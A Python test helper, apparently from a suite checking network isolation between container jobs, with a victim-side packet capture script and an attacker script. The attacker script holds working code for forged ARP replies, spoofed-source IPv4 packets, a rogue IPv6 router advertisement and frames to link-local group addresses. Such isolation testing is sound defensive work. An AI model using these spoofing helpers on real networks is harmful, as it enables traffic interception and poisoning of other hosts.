"""Crafted packets, sent and seen from inside jobs (which keep Docker's CAP_NET_RAW).

WATCH runs in a victim job: it captures every frame reaching its eth0 for a while and reports
what came in (ARP senders, IPv6 frames, UDP payloads by source) and its own state after (its
neighbour entry for the gateway, its IPv6 routes). ATTACK runs in an attacker job: `send`
helpers for forged ARP, IPv4 with any source (IP_HDRINCL), an IPv6 router advertisement, and
frames to the link-local group addresses (any source MAC, any payload).
"""

from __future__ import annotations

WATCH = r"""
import json, socket, subprocess, sys, time
GW, SECS = sys.argv[1], float(sys.argv[2])
s = socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(3)); s.bind(("eth0", 0)); s.settimeout(0.2)
subprocess.run(["ping", "-c", "1", "-W", "1", GW], capture_output=True)  # the gateway's ARP entry
print("ready", flush=True)
arp, udp, ipv6 = set(), set(), 0
end = time.time() + SECS
while time.time() < end:
    try:
        f, addr = s.recvfrom(4096)
    except socket.timeout:
        continue
    if addr[2] == socket.PACKET_OUTGOING:
        continue
    kind = f[12:14]
    if kind == b"\x08\x06":
        arp.add(f[22:28].hex(":") + " " + socket.inet_ntoa(f[28:32]))
    elif kind == b"\x86\xdd":
        ipv6 += 1
    elif kind == b"\x08\x00" and f[23] == 17:
        start = 14 + (f[14] & 15) * 4 + 8
        udp.add(socket.inet_ntoa(f[26:30]) + " " + f[start:].decode(errors="replace"))
neigh = subprocess.run(["ip", "neigh", "show", GW], capture_output=True, text=True).stdout.strip()
route6 = subprocess.run(["ip", "-6", "route", "show"], capture_output=True, text=True).stdout.strip()
print(json.dumps({"arp": sorted(arp), "udp": sorted(udp), "ipv6": ipv6, "neigh": neigh, "route6": route6}))
"""

LISTEN_UDP = r"""
import json, socket, sys, time
s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.bind((sys.argv[1], 9999)); s.settimeout(0.2)
print("ready", flush=True)
seen, end = set(), time.time() + float(sys.argv[2])
while time.time() < end:
    try:
        data, (src, _) = s.recvfrom(2048)
    except socket.timeout:
        continue
    seen.add(f"{src} {data.decode(errors='replace')}")
print(json.dumps(sorted(seen)))
"""

ATTACK = r"""
import socket, struct, subprocess, time
OWN_MAC = bytes.fromhex(open("/sys/class/net/eth0/address").read().strip().replace(":", ""))
OWN_IP = subprocess.run(["ip", "-4", "-o", "addr", "show", "eth0"], capture_output=True,
                        text=True).stdout.split()[3].split("/")[0]
l2 = socket.socket(socket.AF_PACKET, socket.SOCK_RAW); l2.bind(("eth0", 0))
raw = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)

def mac(text):
    return bytes.fromhex(text.replace(":", ""))

def arp(eth_src, sender_mac, sender_ip, dst_mac, target_ip):
    body = struct.pack("!HHBBH", 1, 0x0800, 6, 4, 2) + sender_mac + socket.inet_aton(sender_ip)
    l2.send(dst_mac + eth_src + b"\x08\x06" + body + dst_mac + socket.inet_aton(target_ip))

def udp(src, dst, payload):
    data = struct.pack("!HHHH", 40000, 9999, 8 + len(payload), 0) + payload.encode()
    head = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 20 + len(data), 0, 0, 64, 17, 0,
                       socket.inet_aton(src), socket.inet_aton(dst))
    raw.sendto(head + data, (dst, 0))

def ipv4_udp(src, dst, payload):
    data = struct.pack("!HHHH", 40000, 9999, 8 + len(payload), 0) + payload.encode()
    head = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 20 + len(data), 0, 0, 64, 17, 0,
                       socket.inet_aton(src), socket.inet_aton(dst))
    return head[:10] + struct.pack("!H", checksum(head)) + head[12:] + data

def arp_request(sender_mac, sender_ip, target_ip):
    return (struct.pack("!HHBBH", 1, 0x0800, 6, 4, 1) + sender_mac + socket.inet_aton(sender_ip)
            + b"\0" * 6 + socket.inet_aton(target_ip))

# a frame to a link-local group address (0x0e LLDP, 0x03 802.1X): the bridge does not
# forward those, it hands them up on the port they came in on
def link_local(eth_src, group, kind=b"\x88\xcc", body=b"\0" * 46):
    l2.send(bytes.fromhex("0180c20000") + bytes([group]) + eth_src + kind + body)

def checksum(data):
    data += b"\0" * (len(data) % 2)
    total = sum(struct.unpack(f"!{len(data) // 2}H", data))
    while total >> 16:
        total = (total & 0xFFFF) + (total >> 16)
    return ~total & 0xFFFF

def router_advertisement(eth_src):
    src = bytes.fromhex("fe80000000000000") + eth_src[:3] + b"\xff\xfe" + eth_src[3:]
    dst = bytes.fromhex("ff020000000000000000000000000001")
    prefix = (struct.pack("!BBBBIII", 3, 4, 64, 0xC0, 86400, 14400, 0)
              + bytes.fromhex("20010db8000100000000000000000000"))
    body = struct.pack("!BBHBBHII", 134, 0, 0, 64, 0, 1800, 0, 0) + bytes([1, 1]) + eth_src + prefix
    pseudo = src + dst + struct.pack("!I3xB", len(body), 58)
    body = body[:2] + struct.pack("!H", checksum(pseudo + body)) + body[4:]
    head = struct.pack("!IHBB", 6 << 28, len(body), 58, 255) + src + dst
    l2.send(mac("33:33:00:00:00:01") + eth_src + b"\x86\xdd" + head + body)

for _ in range(20):
    ATTACKS
    time.sleep(0.1)
print("sent")
"""


def attack(lines: str) -> str:
    """The attacker's script, running `lines` (statements separated by ';') 20 times."""
    return ATTACK.replace("ATTACKS", lines)
